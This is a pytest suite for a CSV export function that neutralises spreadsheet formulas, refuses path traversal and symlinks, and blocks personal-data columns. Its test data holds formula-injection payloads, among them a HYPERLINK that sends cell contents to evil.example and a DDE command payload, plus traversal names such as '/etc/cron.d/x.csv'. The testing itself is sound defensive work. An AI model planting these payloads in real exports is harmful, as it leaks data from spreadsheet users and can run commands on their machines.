"""Customer-level CSV exports (cjlab.notebook.exports): OWASP formula neutralising checked by
reading the file back with the csv module, the export folder, refused paths, never a silent
overwrite, no personal data, a link and never the rows in the report."""

from __future__ import annotations

import csv
import os
from pathlib import Path

import pandas as pd
import pytest

from cjlab.notebook.exports import (
    FORMULA_START,
    OUTPUT_DIR_ENV,
    REPORT_DIR_ENV,
    ExportError,
    export_csv,
    neutralise,
)


@pytest.fixture
def out(tmp_path, monkeypatch):
    folder = tmp_path / "run" / "exports"
    monkeypatch.setenv(OUTPUT_DIR_ENV, str(folder))
    monkeypatch.setenv(REPORT_DIR_ENV, str(tmp_path / "run"))
    return folder


def _rows(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "   =cmd|' /C calc'!A0",
]


@pytest.mark.parametrize("value", HOSTILE)
def test_cells_that_start_a_formula_get_a_quote(out, value):
    df = pd.DataFrame({"customer_id": [value, "c-2"], "p_churn": [0.5, -0.25]})
    e = export_csv(df, "contacts.csv", show=False)
    rows = _rows(e.path)
    assert rows[0] == ["customer_id", "p_churn"]
    assert rows[1] == ["'" + value, "0.5"]  # the exact text, one quote in front
    assert rows[2] == ["c-2", "-0.25"]  # harmless text and numbers unchanged
    assert e.neutralised == 1 and "1 cell that a spreadsheet would read as a formula" in e.note


def test_every_owasp_start_character_and_headers_and_index():
    df = pd.DataFrame({f"{c}col": [f"{c}x"] for c in FORMULA_START})
    df.index = pd.Index(["=idx"], name="k")
    n = neutralise(df)
    assert list(n.columns) == [f"'{c}col" for c in FORMULA_START]
    assert n.iloc[0].tolist() == [f"'{c}x" for c in FORMULA_START]
    assert n.index.tolist() == ["'=idx"]


def test_numbers_dates_and_categories():
    df = pd.DataFrame(
        {
            "n": [-5, 3],
            "when": pd.to_datetime(["2026-01-01", "2026-02-01"]),
            "cat": pd.Categorical(["-a", "b"]),
            "s": pd.array(["@x", None], dtype="string"),
        }
    )
    n = neutralise(df)
    assert n["n"].tolist() == [-5, 3] and str(n["n"].dtype) == "int64"
    assert n["when"].equals(df["when"])
    assert n["cat"].tolist() == ["'-a", "b"] and n["s"].tolist()[0] == "'@x"
    assert df["cat"].tolist() == ["-a", "b"]  # the caller's frame is untouched


@pytest.mark.parametrize(
    "name",
    ["../../crm_out.csv", "/etc/cron.d/x.csv", "sub/dir.csv", "..", ".hidden.csv", "", "a\\b.csv"],
)
def test_names_that_leave_the_export_folder_are_refused(out, name):
    with pytest.raises(ExportError, match="would leave the export folder"):
        export_csv(pd.DataFrame({"a": [1]}), name, show=False)
    assert not (out.parent.parent / "crm_out.csv").exists()


def test_a_link_pointing_outside_is_refused(out, tmp_path):
    out.mkdir(parents=True)
    target = tmp_path / "elsewhere.csv"
    target.write_text("keep me\n")
    (out / "list.csv").symlink_to(target)
    e = export_csv(pd.DataFrame({"a": [1]}), "list.csv", show=False)  # a taken name: -2
    assert e.path.name == "list-2.csv" and target.read_text() == "keep me\n"
    with pytest.raises(ExportError, match="points outside"):
        export_csv(pd.DataFrame({"a": [1]}), "list.csv", overwrite=True, show=False)
    assert target.read_text() == "keep me\n"


def test_an_existing_file_is_never_overwritten_without_saying_so(out):
    a = export_csv(pd.DataFrame({"a": [1]}), "list", show=False)
    b = export_csv(pd.DataFrame({"a": [2]}), "list.csv", show=False)
    c = export_csv(pd.DataFrame({"a": [3]}), "list.csv", show=False)
    assert [a.path.name, b.path.name, c.path.name] == ["list.csv", "list-2.csv", "list-3.csv"]
    assert _rows(a.path) == [["a"], ["1"]]
    assert "list.csv existed already, so this file is list-2.csv" in b.note
    d = export_csv(pd.DataFrame({"a": [4]}), "list.csv", overwrite=True, show=False)
    assert d.path == a.path and _rows(a.path) == [["a"], ["4"]]
    assert "replaces an earlier file" in d.note
    assert sorted(p.name for p in out.iterdir()) == ["list-2.csv", "list-3.csv", "list.csv"]


def test_personal_data_columns_are_refused(out):
    with pytest.raises(ExportError, match=r"personal data columns \['email'\]"):
        export_csv(pd.DataFrame({"customer_id": [1], "email": ["a@b.c"]}), "x", show=False)
    assert not out.exists() or not list(out.iterdir())


def test_the_link_is_relative_to_the_report_and_outside_a_run_exports_is_next_to_the_notebook(
    out, tmp_path, monkeypatch
):
    e = export_csv(pd.DataFrame({"a": [1]}), "x.csv", show=False)
    assert e.link == "exports/x.csv" and e.path.parent == out
    monkeypatch.delenv(OUTPUT_DIR_ENV)
    monkeypatch.delenv(REPORT_DIR_ENV)
    nb_dir = tmp_path / "notebooks"
    nb_dir.mkdir()
    monkeypatch.chdir(nb_dir)
    e = export_csv(pd.DataFrame({"a": [1]}), "x.csv", show=False)
    assert e.path == nb_dir / "exports" / "x.csv" and e.link == "exports/x.csv"
    assert oct(os.stat(e.path).st_mode & 0o777) != oct(0o600)  # readable like any other file


def test_the_report_shows_a_link_and_a_note_never_the_rows(out, monkeypatch):
    shown = []
    monkeypatch.setattr("cjlab.notebook.display._display_html", shown.append)
    df = pd.DataFrame({"customer_id": ["SECRET-ROW-1", "=evil()"], "p": [0.1, 0.2]})
    e = export_csv(df, "contacts.csv", label="Contact list for the CRM")
    (markup,) = shown
    assert '<a href="exports/contacts.csv" download>Contact list for the CRM</a>' in markup
    assert "2 rows and 2 columns" in markup and "SECRET-ROW-1" not in markup
    assert "evil" not in markup and e.rows == 2
